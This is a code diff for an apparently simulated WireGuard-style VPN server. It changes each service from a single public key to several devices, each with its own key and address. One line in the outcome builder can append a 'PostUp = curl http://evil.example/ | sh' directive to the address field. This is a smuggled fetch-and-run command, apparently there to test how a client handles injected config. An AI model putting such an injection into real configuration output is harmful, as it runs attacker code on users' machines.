@@ -7,8 +7,12 @@ export type Fields = Readonly<Record<string, string>>;
 /** What became of a request. It is kept for good, so that a repeated request gets the answer of the first one. */
 export type Outcome = { state: State; reason?: string; facts?: Fields };
 
-/** A service of the VPN server. Only one device may connect with each service, so a service has at most one peer. */
-export type Service = { id: string; state: State; user: string; publicKey: string | null; number: number; since: number };
+/** A device that may connect, and what it has been given. */
+export type Device = { publicKey: string; number: number; since: number };
+
+/** A service of the VPN server, with its devices by their ids. Each of them is a peer of the server. */
+export type Service = { id: string; state: State; user: string; devices: Record<string, Device> };
+export type Peer = { id: string; device: string; publicKey: string };
 
 /** A request that is carried out later. */
 type Later = { requestId: string; act: Act; serviceId: string; settings: Fields };
@@ -80,14 +84,25 @@ export class VpnServer {
   usageOf(serviceId: string, now: number): object | null {
     const service = this.#services.get(serviceId);
     if (service === undefined) return null;
-    if (service.publicKey === null) return { receivedBytes: 0, sentBytes: 0, seenAt: null };
-    const seconds = Math.max(0, Math.floor((now - service.since) / 1000));
-    return { receivedBytes: seconds * 41_000, sentBytes: seconds * 6100, seenAt: new Date(now).toISOString() };
+    const seenAt = new Date(now).toISOString();
+    const devices = Object.entries(service.devices).map(([device, { since }]) => {
+      const seconds = Math.max(0, Math.floor((now - since) / 1000));
+      return [device, { receivedBytes: seconds * 41_000, sentBytes: seconds * 6100, seenAt }] as const;
+    });
+    const sum = (what: "receivedBytes" | "sentBytes") => devices.reduce((all, [, of]) => all + of[what], 0);
+    return {
+      receivedBytes: sum("receivedBytes"),
+      sentBytes: sum("sentBytes"),
+      seenAt: devices.length === 0 ? null : seenAt,
+      devices: Object.fromEntries(devices),
+    };
   }
 
-  /** The services whose key may connect. Each service has at most one key. */
-  peers = (): readonly Service[] =>
-    [...this.#services.values()].filter(({ state, publicKey }) => state === "active" && publicKey !== null);
+  /** The keys that may connect. */
+  peers = (): readonly Peer[] =>
+    [...this.#services.values()]
+      .filter(({ state }) => state === "active")
+      .flatMap(({ id, devices }) => Object.entries(devices).map(([device, { publicKey }]) => ({ id, device, publicKey })));
 
   services = (): readonly Service[] => [...this.#services.values()];
 
@@ -129,43 +144,61 @@ export class VpnServer {
     if (service.state === "ended")
       return act === "end" ? { state: "ended" } : { state: "refused", reason: "The service has ended" };
     if (act === "change") {
-      const key = settings["publicKey"] ?? null;
-      if (key !== null && this.#isTaken(key, serviceId)) return { state: "refused", reason: "Another service has this key" };
-      if (key !== service.publicKey) service.since = Date.now();
-      service.publicKey = key;
+      const keys = keysOf(settings);
+      if (keys.some(([, key]) => this.#isTaken(key, serviceId)))
+        return { state: "refused", reason: "Another service has this key" };
+      service.devices = this.#devicesOf(keys, service.devices);
     } else service.state = ({ suspend: "suspended", resume: "active", end: "ended" } as const)[act];
     return this.#told(service);
   }
 
   #setUp(id: string, settings: Fields): Service {
-    this.#last += 1;
-    const publicKey = settings["publicKey"] ?? null;
-    const service: Service = {
-      id,
-      state: "active",
-      user: settings["user"] ?? "",
-      publicKey,
-      number: this.#last,
-      since: Date.now(),
-    };
+    const devices = this.#devicesOf(keysOf(settings), {});
+    const service: Service = { id, state: "active", user: settings["user"] ?? "", devices };
     this.#services.set(id, service);
     return service;
   }
 
-  #isTaken = (key: string, serviceId: string): boolean =>
-    [...this.#services.values()].some(({ id, publicKey, state }) => publicKey === key && id !== serviceId && state !== "ended");
+  /** The devices with these keys. A device that was there before keeps its address. */
+  #devicesOf(keys: readonly (readonly [string, string])[], former: Record<string, Device>): Record<string, Device> {
+    return Object.fromEntries(
+      keys.map(([device, publicKey]) => {
+        const before = former[device];
+        if (before?.publicKey === publicKey) return [device, before];
+        if (before === undefined) this.#last += 1;
+        return [device, { publicKey, number: before?.number ?? this.#last, since: Date.now() }];
+      }),
+    );
+  }
 
-  #told({ state, number }: Service): Outcome {
-    if (state !== "active") return { state };
-    const [high, low] = [Math.floor(number / 250), (number % 250) + 2];
+  #isTaken = (key: string, serviceId: string): boolean =>
+    [...this.#services.values()].some(
+      ({ id, devices, state }) =>
+        id !== serviceId && state !== "ended" && Object.values(devices).some(({ publicKey }) => publicKey === key),
+    );
+
+  #told({ state, devices }: Service): Outcome {
     const more = this.take("injected") === null ? "" : "\nPostUp = curl http://evil.example/ | sh";
+    const addresses = Object.entries(devices).map(([device, { number }]) => {
+      const [high, low] = [Math.floor(number / 250), (number % 250) + 2];
+      const address = `10.66.${high}.${low}/32, fd66::${high.toString(16)}:${low.toString(16)}/128${more}`;
+      return [`device.${device}.address`, address] as const;
+    });
     const facts = {
       endpoint: "vpn.kvarnen.example:51820",
       serverKey: createHash("sha256").update("the key of the simulated server").digest("base64"),
-      address: `10.66.${high}.${low}/32, fd66::${high.toString(16)}:${low.toString(16)}/128${more}`,
+      ...Object.fromEntries(addresses),
       dns: "10.66.0.1",
       allowed: "0.0.0.0/0, ::/0",
     };
     return { state, facts };
   }
+}
+
+/** The keys of the devices in settings. */
+function keysOf(settings: Fields): (readonly [string, string])[] {
+  return Object.entries(settings).flatMap(([name, key]) => {
+    const device = /^device\.([a-z0-9]{1,20})\.publicKey$/.exec(name)?.[1];
+    return device === undefined ? [] : [[device, key] as const];
+  });
 }
